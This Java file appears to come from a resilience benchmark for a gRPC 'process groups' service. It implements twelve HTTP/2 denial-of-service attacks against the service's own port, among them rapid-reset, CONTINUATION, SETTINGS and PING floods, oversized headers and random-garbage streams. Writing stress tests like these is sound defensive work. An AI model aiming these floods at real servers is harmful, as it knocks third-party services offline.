package io.plexspaces.processgroups.bench.attack;

import static io.plexspaces.processgroups.bench.attack.RawHttp2.CONTINUATION;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.DATA;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.END_HEADERS;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.END_STREAM;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.HEADERS;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.PING;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.PRIORITY;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.RST_STREAM;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.SETTINGS;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.USUAL_BUFFER;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.USUAL_WINDOW;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.WINDOW_UPDATE;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.frame;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.headers;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.joined;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.number;
import static io.plexspaces.processgroups.bench.attack.RawHttp2.repeated;

import io.plexspaces.processgroups.proto.v1.ListGroupsRequest;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;

/** More frames on the gRPC port than anybody needs. */
final class Http2Floods {
    private static final int BURST = 500;
    private static final int CANCEL = 8;
    private static final int GARBAGE_BYTES = 16 * 1024;
    private static final int LARGE_HEADER_BYTES = 12 * 1024;
    private static final byte[] NOTHING = new byte[0];

    private static final ListGroupsRequest CHEAP =
            ListGroupsRequest.newBuilder().setTenantId(Victim.TENANT).build();

    private Http2Floods() {}

    static List<Attack> all() {
        return List.of(
                new Attack("rapid-reset", 2, Http2Floods::rapidReset),
                new Attack("settings-flood", 2, flood(frame(SETTINGS, 0, 0, new byte[] {0, 3, 0, 0, 0, 100}))),
                new Attack("ping-flood", 2, flood(frame(PING, 0, 0, new byte[8]))),
                new Attack("priority-flood", 2, flood(frame(PRIORITY, 0, 1, new byte[5]))),
                new Attack("window-update-flood", 2, flood(frame(WINDOW_UPDATE, 0, 0, number(1)))),
                new Attack("continuation-flood", 2, Http2Floods::continuations),
                new Attack("large-headers", 2, Http2Floods::largeHeaders),
                new Attack("empty-data", 2, (victim, ledger) -> dataOfSession(victim, ledger, NOTHING)),
                new Attack("tiny-data", 2, (victim, ledger) -> dataOfSession(victim, ledger, new byte[1])),
                new Attack("unacknowledged-settings", 4, Http2Floods::streamsBeforeSettings),
                new Attack("grpc-garbage", 4, Http2Floods::garbage),
                new Attack("grpc-churn", 4, Http2Floods::churn));
    }

    private static Attack.Step flood(byte[] frame) {
        byte[] burst = repeated(frame, BURST);
        return (victim, ledger) -> {
            try (RawHttp2 peer = new RawHttp2(victim.grpc(), USUAL_BUFFER, USUAL_WINDOW)) {
                peer.drain();
                while (true) {
                    peer.write(burst);
                    ledger.count("frames", BURST);
                }
            }
        };
    }

    private static void rapidReset(Victim victim, Ledger ledger) throws IOException {
        try (RawHttp2 peer = new RawHttp2(victim.grpc(), USUAL_BUFFER, USUAL_WINDOW)) {
            peer.drain();
            while (true) {
                int stream = peer.nextStream();
                peer.write(joined(
                        frame(HEADERS, END_HEADERS, stream, headers("ListGroups")),
                        RawHttp2.data(stream, CHEAP, true),
                        frame(RST_STREAM, 0, stream, number(CANCEL))));
                ledger.count("calls");
            }
        }
    }

    private static void continuations(Victim victim, Ledger ledger) throws IOException {
        try (RawHttp2 peer = new RawHttp2(victim.grpc(), USUAL_BUFFER, USUAL_WINDOW)) {
            peer.drain();
            int stream = peer.nextStream();
            peer.write(frame(HEADERS, 0, stream, headers("Session")));
            byte[] burst = repeated(frame(CONTINUATION, 0, stream, NOTHING), BURST);
            while (true) {
                peer.write(burst);
                ledger.count("frames", BURST);
            }
        }
    }

    private static void largeHeaders(Victim victim, Ledger ledger) throws IOException {
        ByteBuffer large = ByteBuffer.allocate(LARGE_HEADER_BYTES + 16);
        RawHttp2.literal(large.put((byte) 0), "x-much");
        int rest = LARGE_HEADER_BYTES - 127;
        large.put((byte) 127).put((byte) (rest & 0x7F | 0x80)).put((byte) (rest >>> 7));
        byte[] much = joined(headers("ListGroups"), large.array());
        try (RawHttp2 peer = new RawHttp2(victim.grpc(), USUAL_BUFFER, USUAL_WINDOW)) {
            peer.drain();
            while (true) {
                peer.write(frame(HEADERS, END_HEADERS | END_STREAM, peer.nextStream(), much));
                ledger.count("calls");
            }
        }
    }

    private static void dataOfSession(Victim victim, Ledger ledger, byte[] content) throws IOException {
        try (RawHttp2 peer = new RawHttp2(victim.grpc(), USUAL_BUFFER, USUAL_WINDOW)) {
            peer.drain();
            int stream = peer.nextStream();
            peer.write(joined(
                    frame(HEADERS, END_HEADERS, stream, headers("Session")),
                    frame(DATA, 0, stream, new byte[] {0, 0, 0xF, 0, 0})));
            byte[] burst = repeated(frame(DATA, 0, stream, content), BURST);
            while (true) {
                peer.write(burst);
                ledger.count("frames", BURST);
            }
        }
    }

    /** The server has said how many streams may be open; this client never says that it knows. */
    private static void streamsBeforeSettings(Victim victim, Ledger ledger) throws IOException {
        try (RawHttp2 peer = new RawHttp2(victim.grpc(), USUAL_BUFFER, USUAL_WINDOW)) {
            peer.drain();
            while (true) {
                peer.write(frame(HEADERS, END_HEADERS, peer.nextStream(), headers("Session")));
                ledger.count("streams");
            }
        }
    }

    private static void garbage(Victim victim, Ledger ledger) throws IOException {
        byte[] bytes = new byte[GARBAGE_BYTES];
        ThreadLocalRandom.current().nextBytes(bytes);
        boolean asHttp2 = ThreadLocalRandom.current().nextBoolean();
        try (RawSocket peer = asHttp2
                ? new RawHttp2(victim.grpc(), USUAL_BUFFER, USUAL_WINDOW)
                : new RawSocket(victim.grpc(), USUAL_BUFFER)) {
            peer.drain();
            while (true) {
                peer.write(bytes);
                ledger.count("bytes", bytes.length);
            }
        }
    }

    private static void churn(Victim victim, Ledger ledger) throws IOException {
        try (RawHttp2 peer = new RawHttp2(victim.grpc(), USUAL_BUFFER, USUAL_WINDOW)) {
            peer.call("ListGroups", CHEAP, true);
            ledger.count("connections");
        }
    }
}
